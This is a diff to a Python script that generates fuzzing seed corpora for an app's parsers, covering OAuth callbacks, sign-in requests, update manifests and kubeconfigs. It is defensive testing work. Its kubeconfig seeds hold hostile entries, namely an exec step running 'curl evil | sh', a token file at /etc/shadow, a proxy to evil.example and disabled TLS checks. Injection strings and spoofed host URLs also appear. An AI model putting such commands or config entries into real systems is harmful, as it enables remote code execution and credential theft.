@@ -390,6 +390,7 @@ def kubeconfig_corpus():
     corpus.add("bad-base64", kubeconfig("alpha", server, ca, client, client_key)
                .replace("client-certificate-data: ", "client-certificate-data: !!"))
     corpus.add("no-users", "apiVersion: v1\nkind: Config\nclusters: []\nusers: []\n")
+    kubeconfig_hostile(corpus, kubeconfig("alpha", server, ca, client, client_key))
     return corpus
 
 
@@ -493,6 +494,249 @@ def bid_cost():
     return corpus
 
 
+# --- the parsers added with issue 34 ----------------------------------------------------------
+
+CALLBACK = "computer.socialweb.desk:/oauth/callback"
+STATE = "Zk3sD0x9-fuzz_state"  # fuzz/src/sign_in_request.rs
+HOSTILE = "\u202eevil\u0000\n<script>\u2028"
+
+
+def app_link():
+    corpus = Corpus("app_link")
+    iss = "https%3A%2F%2Fbsky.social"
+    corpus.add("callback", f"{CALLBACK}?code=cod-1&state=s-1&iss={iss}")
+    corpus.add("upper-scheme", f"COMPUTER.SOCIALWEB.DESK:/oauth/callback?code=c&state=s")
+    corpus.add("error", f"{CALLBACK}?error=access_denied&error_description=no%20thanks&state=s")
+    corpus.add("other-scheme", "https://desk.socialweb.computer/oauth/callback?code=c")
+    corpus.add("longer-scheme", "computer.socialweb.deskx:/oauth/callback")
+    corpus.add("other-path", "computer.socialweb.desk:/other?code=c")
+    corpus.add("host", "computer.socialweb.desk://evil.example/oauth/callback?code=c")
+    corpus.add("fragment", f"{CALLBACK}#code=c&state=s")
+    corpus.add("encoded-path", "computer.socialweb.desk:/oauth/%63allback?code=c")
+    corpus.add("dot-segments", "computer.socialweb.desk:/oauth/x/../callback?code=c")
+    corpus.add("hostile-query", f"{CALLBACK}?state=%E2%80%AE%00%0A&code={HOSTILE}")
+    corpus.add("too-long", f"{CALLBACK}?code={'a' * 4100}")
+    corpus.add("client-id", "https://desk.socialweb.computer/oauth-client-metadata.json")
+    corpus.add("client-id-http", "http://desk.socialweb.computer/oauth-client-metadata.json")
+    return corpus
+
+
+def sign_in_request():
+    corpus = Corpus("sign_in_request")
+    iss = "http%3A%2F%2Flocalhost%3A2583"
+    headers = "Host: 127.0.0.1:49152\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n\r\n"
+    right = f"/callback?code=c-1&state={STATE}&iss={iss}"
+    corpus.add("right", f"GET {right} HTTP/1.1\r\n{headers}")
+    corpus.add("wrong-state", f"GET /callback?code=c-1&state=other&iss={iss} HTTP/1.1\r\n{headers}")
+    corpus.add("no-state", f"GET /callback?code=c-1 HTTP/1.1\r\n{headers}")
+    corpus.add("twice", f"GET /callback?state=other&state={STATE} HTTP/1.1\r\n\r\n")
+    corpus.add("favicon", f"GET /favicon.ico HTTP/1.1\r\n{headers}")
+    corpus.add("post", f"POST {right} HTTP/1.1\r\nContent-Length: 0\r\n\r\n")
+    corpus.add("absolute", f"GET http://evil.example{right} HTTP/1.1\r\n\r\n")
+    corpus.add("bare", f"GET {right}")
+    corpus.add("fragment", f"GET /callback#state={STATE} HTTP/1.1\r\n\r\n")
+    corpus.add("dot-segments", f"GET /x/../callback?state={STATE} HTTP/1.1\r\n\r\n")
+    corpus.add("encoded", f"GET /%63allback?state={STATE.replace('-', '%2D')} HTTP/1.1\r\n\r\n")
+    corpus.add("hostile", f"GET /callback?state={HOSTILE} HTTP/1.1\r\n\r\n".encode("utf-8", "surrogatepass"))
+    corpus.add("error", f"GET /callback?error=access_denied&state={STATE} HTTP/1.1\r\n\r\n")
+    return corpus
+
+
+def dpop_nonce():
+    corpus = Corpus("dpop_nonce")
+    corpus.add("imf", "nonce-4f2a\nSun, 06 Dec 2026 18:00:00 GMT")
+    corpus.add("rfc850", "n\nSunday, 06-Dec-26 18:00:00 GMT")
+    corpus.add("asctime", "n\nSun Dec  6 18:00:00 2026")
+    corpus.add("far-future", "n\nFri, 31 Dec 9999 23:59:59 GMT")
+    corpus.add("epoch", "n\nThu, 01 Jan 1970 00:00:00 GMT")
+    corpus.add("before-epoch", "n\nWed, 31 Dec 1969 23:59:59 GMT")
+    corpus.add("no-date", "eyJub25jZSI6ICJ4In0")
+    corpus.add("no-nonce", "\nSun, 06 Dec 2026 18:00:00 GMT")
+    corpus.add("garbage-date", "n\nyesterday, around noon")
+    corpus.add("quoted-nonce", '"a\\"b\'c<d>\n')
+    corpus.add("utf8-nonce", HOSTILE.replace("\n", "").replace("\u0000", "") + "\n")
+    corpus.add("long-nonce", "n" * 4000 + "\nSun, 06 Dec 2026 18:00:00 GMT")
+    return corpus
+
+
+def handle_answer():
+    corpus = Corpus("handle_answer")
+    dns, well_known, xrpc = b"\x00", b"\x01", b"\x02"
+    status = lambda code: struct.pack("<H", code)
+    corpus.add("txt", dns + f"did=did:plc:ewvi7nxzyoun6zhxrhs64oiz\nv=spf1 -all".encode())
+    corpus.add("txt-agree", dns + b"did=did:plc:abc\ndid=did:plc:abc")
+    corpus.add("txt-conflict", dns + b"did=did:plc:abc\ndid=did:plc:xyz")
+    corpus.add("txt-key", dns + b"did=did:key:zQ3shunBKsXixLxKtC5qeSG9E4J5RkGN57im31pcTzbNQnm5w")
+    corpus.add("well-known", well_known + b"did:web:alice.example.com\n")
+    corpus.add("well-known-crlf", well_known + b"  did:plc:ewvi7nxzyoun6zhxrhs64oiz\r\nmore")
+    corpus.add("well-known-html", well_known + b"<!doctype html><html><body>hi</body></html>")
+    corpus.add("well-known-hostile", well_known + HOSTILE.encode() + b"did:plc:" + b"a" * 300)
+    corpus.add("xrpc", xrpc + status(200) + b'{"did":"did:plc:ewvi7nxzyoun6zhxrhs64oiz"}')
+    corpus.add("xrpc-refused", xrpc + status(400) +
+               b'{"error":"InvalidRequest","message":"Unable to resolve handle"}')
+    corpus.add("xrpc-hostile", xrpc + status(404) +
+               json.dumps({"error": "x", "message": HOSTILE * 40}, ensure_ascii=False).encode())
+    corpus.add("xrpc-did-on-error", xrpc + status(500) + b'{"did":"did:plc:abc"}')
+    corpus.add("xrpc-not-json", xrpc + status(200) + b"did:plc:abc")
+    return corpus
+
+
+def relay_grant():
+    corpus = Corpus("relay_grant")
+    grant_uri = f"at://{OWNER}/com.publicdomainrelay.temp.market.receipts.free/3lbjpbyznfc2a"
+    corpus.add("page", {"repos": [{"did": OWNER}, {"did": "did:web:bidder.example.com"}],
+                        "cursor": "3lbjpbyznfc2a"})
+    corpus.add("last-page", {"repos": [{"did": "did:plc:abc"}]})
+    corpus.add("empty", {"repos": []})
+    corpus.add("junk-page", {"repos": [{"did": HOSTILE}, {"did": 7}, "did:plc:abc", {"did": ""}],
+                             "cursor": "c\u0000"})
+    corpus.add("long-cursor", {"repos": [{"did": OWNER}], "cursor": "c" * 2000})
+    corpus.add("grant", {"uri": grant_uri, "cid": CID})
+    corpus.add("grant-extra", {"uri": grant_uri, "cid": CID, "value": {"$type": "x"}})
+    corpus.add("grant-junk", {"uri": HOSTILE * 30, "cid": CID})
+    corpus.add("grant-bad-cid", {"uri": grant_uri, "cid": "bafy" + HOSTILE})
+    corpus.add("grant-http", {"uri": "https://bidder.example.com/grant", "cid": CID})
+    corpus.add("error", {"error": "NotFound", "message": HOSTILE})
+    return corpus
+
+
+BIDDER = OWNER  # fuzz/src/sealed_secret.rs
+RECEIPT = f"at://{BIDDER}/com.publicdomainrelay.temp.market.receipt/3lbjpbyznfc2a"
+GUEST_KEY_NSID = "computer.socialweb.secret.guestKey"
+# fuzz/src/sealed_secret.rs: the recipient of the fixed identity (the scalar 0x44 repeated).
+RECIPIENT = "age1luhwg4spasdkwvgvw7gyq3v94e5hxv0wu8ql3neyr9e3c8ll8e4s63g9lr"
+
+
+def sealed_secret():
+    corpus = Corpus("sealed_secret")
+    key_uri = f"at://{BIDDER}/{GUEST_KEY_NSID}/3lkey"
+
+    def event(payload_uri=key_uri, receipt=RECEIPT, **extra):
+        return dict({"$type": "com.publicdomainrelay.temp.market.event",
+                     "receipt": {"uri": receipt, "cid": CID},
+                     "payload": {"uri": payload_uri, "cid": "bafykey"},
+                     "createdAt": "2026-12-05T10:00:00.000Z"}, **extra)
+
+    def key(recipient=RECIPIENT, receipt=RECEIPT):
+        return {"$type": GUEST_KEY_NSID, "receipt": {"uri": receipt, "cid": CID},
+                "recipient": recipient, "createdAt": "2026-12-05T10:00:01.000Z"}
+
+    corpus.add("key", {"event": event(), "key": key()})
+    corpus.add("started", {"event": event(f"at://{BIDDER}/com.publicdomainrelay.temp.compute.events.vm.started/3l"),
+                           "key": key()})
+    corpus.add("other-receipt", {"event": event(receipt=RECEIPT + "x"), "key": key(receipt=RECEIPT + "x")})
+    corpus.add("ssh", {"event": event(), "key": key("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq")})
+    corpus.add("long", {"event": event(), "key": key("age1" + "q" * 100)})
+    corpus.add("hostile", {"event": event(HOSTILE * 50), "key": key(HOSTILE)})
+    corpus.add("signed-already", {"event": event(signatures=[{"$type": "network.attested.signature",
+                                                              "key": "did:key:" + K256_MULTIKEY,
+                                                              "cid": CID, "signature": {"$bytes": "AAAA"}}]),
+                                  "key": key()})
+    corpus.add("no-recipient", {"event": event(), "key": {"receipt": {"uri": RECEIPT, "cid": CID}}})
+    return corpus
+
+
+def inline_signatures():
+    corpus = Corpus("inline_signatures")
+    rfp = {"$type": "com.publicdomainrelay.temp.market.rfp",
+           "payload": {"uri": f"at://{OWNER}/com.publicdomainrelay.temp.compute.vm/3lbjpbyznfc2a",
+                       "cid": CID},
+           "signatures": []}
+    key = "did:key:" + P256_MULTIKEY
+    entry = {"$type": "network.attested.signature", "key": key, "issuedAt": "2026-12-05T10:00:00.000Z",
+             "cid": CID, "signature": {"$bytes": "A" * 86}}
+    directory = {"published": [[OWNER, key]], "listed": [["did:web:ingress.example.com", key]],
+                 "endpoints": ["https://ingress.example.com/xrpc", "https://pds.example.com"]}
+    corpus.add("unsigned", {"record": rfp, "directory": directory})
+    corpus.add("bogus-entry", {"record": dict(rfp, signatures=[entry]), "directory": directory})
+    corpus.add("issuer", {"record": dict(rfp, signatures=[dict(entry, issuer="did:web:ingress.example.com")]),
+                          "issuer": "did:web:ingress.example.com", "key": key,
+                          "directory": {"listed": [["did:web:ingress.example.com", key]],
+                                        "endpoints": ["https://ingress.example.com/xrpc"]}})
+    corpus.add("port", {"record": rfp, "issuer": "did:web:localhost%3A7801", "key": key,
+                        "directory": {"listed": [["did:web:localhost%3A7801", key]],
+                                      "endpoints": ["http://localhost:7801"]}})
+    corpus.add("tricky-hosts", {"record": rfp, "issuer": "did:web:good.example.com", "key": key,
+                                "directory": {"listed": [["did:web:good.example.com", key]],
+                                              "endpoints": ["https://user@good.example.com",
+                                                            "https://evil.example.com#@good.example.com",
+                                                            "https://good.example.com\\evil",
+                                                            "ftp://good.example.com"]}})
+    corpus.add("stranger", {"record": rfp, "issuer": "did:plc:stranger", "key": "did:key:zMallory",
+                            "directory": {"listed": [["did:plc:stranger", "did:key:zMallory"]]}})
+    corpus.add("not-object", [1, 2, 3])
+    corpus.add("other-entries", {"record": dict(rfp, signatures=[{"uri": "at://x", "cid": CID}, 7, entry])})
+    return corpus
+
+
+def cluster_feed():
+    corpus = Corpus("cluster_feed")
+    header = lambda t: cbor({"op": 1, "t": t})
+    frame = lambda data: struct.pack("<H", len(data)) + data
+    cluster = lambda name, **extra: header("#cluster") + cbor(dict({"name": name, "phase": "Ready"}, **extra))
+    member = lambda c, did, **extra: header("#member") + cbor(dict({"cluster": c, "did": did}, **extra))
+    node = lambda c, name, **extra: header("#nodeClaim") + cbor(dict({"cluster": c, "name": name}, **extra))
+    complete = header("#info") + cbor({"name": "SnapshotComplete"})
+    feed = lambda *frames: b"".join(frame(f) for f in frames)
+    corpus.add("snapshot", feed(cluster("alpha"), member("alpha", OWNER, state="Active"),
+                                node("alpha", "nc-1", phase="Joining", message="waiting"), complete,
+                                cluster("beta"), member("alpha", "did:plc:abc")))
+    corpus.add("empty", feed(complete, cluster("alpha")))
+    corpus.add("clusters", feed(*[cluster(n) for n in "abcd"], complete))
+    corpus.add("clusters-after", feed(complete, *[cluster(n) for n in "abc"], cluster("b", deleted=True),
+                                      cluster("d"), cluster("e")))
+    corpus.add("members", feed(cluster("a"), *[member("a", f"did:plc:m{n}") for n in range(3)], complete))
+    corpus.add("nodes", feed(complete, cluster("a"), *[node("a", f"n{n}") for n in range(3)]))
+    corpus.add("frames", feed(*[header("#info") + cbor({"name": "Progress"})] * 13))
+    corpus.add("bytes", feed(cluster("a", instance="x" * 1500), cluster("b", instance="y" * 1500), complete))
+    corpus.add("hostile", feed(cluster("a", phase=HOSTILE, server=HOSTILE * 10),
+                               node("a", HOSTILE, message=HOSTILE * 100), member("a", HOSTILE),
+                               cluster("Bad Name"), complete))
+    corpus.add("error", feed(cluster("a"), cbor({"op": -1}) + cbor({"error": "ClusterNotFound"})))
+    corpus.add("unknown", feed(header("#future") + cbor({"n": 1}), complete))
+    return corpus
+
+
+def update_manifest():
+    corpus = Corpus("update_manifest")
+    signature = base64.b64encode(SIGNATURE.encode()).decode()
+    url = "https://updates.socialweb.computer/desk/swdesk_1.2.3_amd64.deb"
+    platform = {"url": url, "signature": signature}
+    corpus.add("static", {"version": "1.2.3", "notes": "Fixes.", "pub_date": "2026-12-05T10:00:00Z",
+                          "platforms": {"linux-x86_64-deb": platform, "linux-x86_64": platform}})
+    corpus.add("dynamic", {"version": "v1.2.3", "url": url, "signature": signature})
+    corpus.add("older", {"version": "0.0.1", "url": url, "signature": signature})
+    corpus.add("same", {"version": "0.4.0", "url": url, "signature": signature})
+    corpus.add("prerelease", {"version": "1.2.3-rc.1+build.7", "url": url, "signature": signature})
+    corpus.add("name", {"name": "v2.0.0", "url": url, "signature": "bm90IGEgc2lnbmF0dXJl"})
+    corpus.add("bad-signature", {"version": "1.2.3", "url": url,
+                                 "signature": base64.b64encode(SIGNATURE.replace("O", "P", 1).encode()).decode()})
+    corpus.add("huge-version", {"version": "99999999999999999999.0.0", "url": url, "signature": ""})
+    return corpus
+
+
+# The seeds' release signature: `tauri signer sign --app-version 1.2.3` of
+# fuzz/src/update_manifest.rs's PACKAGE with the key whose public half is its PUBLIC_KEY.
+SIGNATURE = """dW50cnVzdGVkIGNvbW1lbnQ6IHNpZ25hdHVyZSBmcm9tIHRhdXJpIHNlY3JldCBrZXkKUlVReTh5WjA5YkpZa2ZQd1BZZzA3RXVCT201eWhyc2JYOHF0VlQ5NEhlNlZ0eVhmWElLL3lSRGQ4dVRjZUZNR2tHeG5udXBGR3hYYVkrTXJtNUJHYllGUEUyWTEwU244a1FJPQp0cnVzdGVkIGNvbW1lbnQ6IHRpbWVzdGFtcDoxNzk2NTgzMjg5CWZpbGU6cGFja2FnZQl2ZXJzaW9uOjEuMi4zCk9IMWZVcWpCaW5lai9aRDVqMWw5QnBjS3RsWUR3ckNpcVVuc09DY0xudGVma3Y5eVBNSmZrZThIRE0yVGFOMEk2NjlTYnJoWGlidkwyMDROVS83VUJBPT0K"""
+
+
+def kubeconfig_hostile(corpus, issued):
+    """The gateway answers the app refuses to write (issue 34): each asks for what runs code,
+    reaches elsewhere or trusts anything."""
+    user = "  user:\n"
+    corpus.add("exec", issued.replace(user, user + "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
+                                              "      command: /bin/sh\n      args: [-c, 'curl evil | sh']\n"))
+    corpus.add("auth-provider", issued.replace(user, user + "    auth-provider:\n      name: oidc\n"
+                                                       "      config: {idp-issuer-url: https://evil.example}\n"))
+    corpus.add("token-file", issued.replace(user, user + "    tokenFile: /etc/shadow\n    token: abc\n"))
+    cluster = "  cluster:\n"
+    corpus.add("proxy", issued.replace(cluster, cluster + "    proxy-url: socks5://evil.example:1080\n"))
+    corpus.add("skip-tls", issued.replace(cluster, cluster + "    insecure-skip-tls-verify: true\n"))
+    second = "- name: evil\n  context:\n    cluster: alpha\n    user: alpha-admin\n"
+    corpus.add("two-contexts", issued.replace("current-context:", second + "current-context:"))
+    corpus.add("current-evil", issued.replace("current-context: alpha", second + "current-context: evil"))
+
+
 def check_dictionaries():
     """libFuzzer's dictionary syntax: `name="value"` or `"value"` a line, `#` comments."""
     for path in sorted((FUZZ / "dicts").glob("*.dict")):
@@ -505,9 +749,27 @@ def check_dictionaries():
                 sys.exit(f"{path.name}:{number}: not a dictionary entry: {line}")
 
 
+CORPORA = {
+    "records": records, "xrpc_answer": xrpc_answer, "did_document": did_document,
+    "syntax": syntax, "data_model": data_model, "cluster_frames": cluster_frames,
+    "kubeconfig": kubeconfig_corpus, "oauth_metadata": oauth_metadata, "jwt": jwt,
+    "peer_text": peer_text, "bid_cost": bid_cost, "app_link": app_link,
+    "sign_in_request": sign_in_request, "dpop_nonce": dpop_nonce, "handle_answer": handle_answer,
+    "relay_grant": relay_grant, "sealed_secret": sealed_secret,
+    "inline_signatures": inline_signatures, "cluster_feed": cluster_feed,
+    "update_manifest": update_manifest,
+}
+
+
 def main():
-    made = [records(), xrpc_answer(), did_document(), syntax(), data_model(), cluster_frames(),
-            kubeconfig_corpus(), oauth_metadata(), jwt(), peer_text(), bid_cost()]
+    """Every corpus, or only those named (`python3 fuzz/tools/make_seeds.py app_link jwt`):
+    certificates and JWTs are signed afresh (ECDSA), so writing a corpus again changes its
+    files even when nothing else did."""
+    asked = sys.argv[1:] or list(CORPORA)
+    unknown = [name for name in asked if name not in CORPORA]
+    if unknown:
+        sys.exit(f"no corpus {unknown}; the corpora are: {', '.join(CORPORA)}")
+    made = [CORPORA[name]() for name in asked]
     for corpus in made:
         print(f"{corpus.dir.relative_to(FUZZ)}: {len(corpus.seen)} seeds")
     check_dictionaries()
